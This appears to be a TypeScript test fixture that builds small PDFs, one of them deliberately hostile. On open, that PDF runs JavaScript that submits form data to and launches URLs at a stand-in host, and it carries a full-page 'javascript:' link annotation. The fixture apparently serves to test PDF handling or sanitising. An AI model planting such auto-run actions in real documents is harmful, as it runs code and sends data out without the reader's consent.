/** What a PDF of the tests has besides a page with a line of text. */
interface Pdf {
  readonly text: string;
  /** Entries of the catalogue, and of the page. */
  readonly catalogue?: string;
  readonly page?: string;
  /** More to draw on it. */
  readonly drawn?: string;
}

/** A PDF of one page, in a font that it does not bring along. */
export const pdfOf = ({ text, catalogue = '', page = '', drawn = '' }: Pdf): Buffer => {
  const content = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET${drawn}`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let file = '%PDF-1.7\n';
  const places: number[] = [];
  for (const [i, object] of objects.entries()) {
    places.push(file.length);
    file += `${i + 1} 0 obj\n${object}\nendobj\n`;
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
};

/** One that wants to run, open and send things as soon as it is seen. */
export const hostilePdf = (): Buffer =>
  pdfOf({
    text: 'Nothing runs here',
    catalogue: [
      '/OpenAction << /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("https://elsewhere.example/"\\);) >>',
      '/AA << /WC << /S /URI /URI (https://elsewhere.example/closed) >> >>',
    ].join(' '),
    page: [
      '/AA << /O << /S /JavaScript /JS (app.launchURL\\("https://elsewhere.example/opened"\\);) >> >>',
      '/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >> ]',
    ].join(' '),
  });

/** A scan as scanners make them: a black square, compressed like a fax (CCITT group 4). */
export const scannedPdf = (): Buffer =>
  pdfOf({
    text: 'Scanned',
    drawn: [
      ' q 300 0 0 300 72 300 cm',
      'BI /W 8 /H 8 /BPC 1 /CS /G /F /CCF /DP << /K -1 /Columns 8 /Rows 8 /BlackIs1 true >> ID \xff\x00\x10\x01',
      'EI Q',
    ].join('\n'),
  });
